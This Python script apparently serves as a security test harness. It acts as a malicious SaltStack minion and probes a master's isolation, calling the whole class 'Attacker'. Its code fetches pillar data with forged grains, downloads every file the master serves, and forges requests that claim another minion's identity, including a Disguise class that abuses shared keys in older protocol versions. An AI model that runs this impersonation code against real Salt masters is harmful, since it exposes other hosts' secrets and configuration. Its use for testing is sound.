"""A minion that asks for what is not its own: run with its configuration, told by standard input what to try.

It needs nothing but what every minion has, its own key. Prints what it got, as JSON, in plain text.
"""

import json
import sys
import time

import salt.channel.client
import salt.config
import salt.minion
import salt.pillar


class Attacker:
    def __init__(self, configuration):
        self.options = salt.config.minion_config(configuration)
        self.minion = salt.minion.SMinion(self.options)
        self.channel = salt.channel.client.ReqChannel.factory(self.options)

    def pillar(self, grains=(), **asked):
        """Its pillar, with grains of its choice and whatever else a request may hold."""
        told = {**self.minion.opts["grains"], **dict(grains)}
        return salt.pillar.get_pillar(self.options, told, self.options["id"], **asked).compile_pillar()

    def call(self, function, *arguments, **options):
        """What ``salt-call`` would run."""
        return self.minion.functions[function](*arguments, **options)

    def everything(self, saltenv):
        """Each file that the master lists."""
        serve = {"cmd": "_serve_file", "loc": 0, "gzip": None, "saltenv": saltenv}
        names = self.call("cp.list_master", saltenv)
        return {name: self.request(path=name, **serve) for name in names}

    def request(self, **load):
        """A request of its own making."""
        return self.channel.send(load, timeout=10, tries=1)

    def with_another_key(self, name):
        """Pillar, under the name of another, as if its own key were the other's."""
        options = {**self.options, "id": name, "auth_timeout": 2, "auth_tries": 1}
        with salt.channel.client.ReqChannel.factory(options) as channel:
            return channel.crypted_transfer_decode_dictentry(
                {"cmd": "_pillar", "grains": {}, "saltenv": None}, dictkey="pillar", timeout=3, tries=1
            )

    def disguised(self, name, envelope=None, version=3, **load):
        """A request, sealed with its own key, that says to be from another: inside, or outside too."""
        with salt.channel.client.ReqChannel.factory(self.options) as channel:
            channel.send({"cmd": "_file_envs"})  # so that it has its keys
            channel.obj._package_load = Disguise(channel.obj, name, envelope or self.options["id"], version)
            return channel.send(load, timeout=3, tries=1)


class Disguise:
    """Packs requests as a channel does, but for the name; before version 3, all minions have one key."""

    def __init__(self, channel, name, envelope, version):
        self.auth, self.name, self.version = channel.auth, name, version
        algorithms = {f"{use}_algo": channel.opts[f"{what}_algorithm"] for use, what in ALGORITHMS.items()}
        self.outside = {"enc": "aes", "version": version, "id": envelope, **algorithms}
        if version < 3:
            self.auth._session_crypticle = self.auth._crypticle

    def __call__(self, load, nonce=None, session_crypticle=None):
        inside = {**load, "id": self.name, "nonce": nonce, "ts": int(time.time())}
        if self.version > 2:
            inside["tok"] = self.auth.gen_token(b"salt")
        return {**self.outside, "load": session_crypticle.dumps(inside)}


ALGORITHMS = {"enc": "encryption", "sig": "signing"}


def attempt(attacker, way, arguments, options):
    try:
        return getattr(attacker, way)(*arguments, **options)
    except (Exception, SystemExit) as error:
        return f"{type(error).__name__}: {error}"


if __name__ == "__main__":
    attacker = Attacker(sys.argv[1])
    print(json.dumps([attempt(attacker, *one) for one in json.load(sys.stdin)], default=repr))
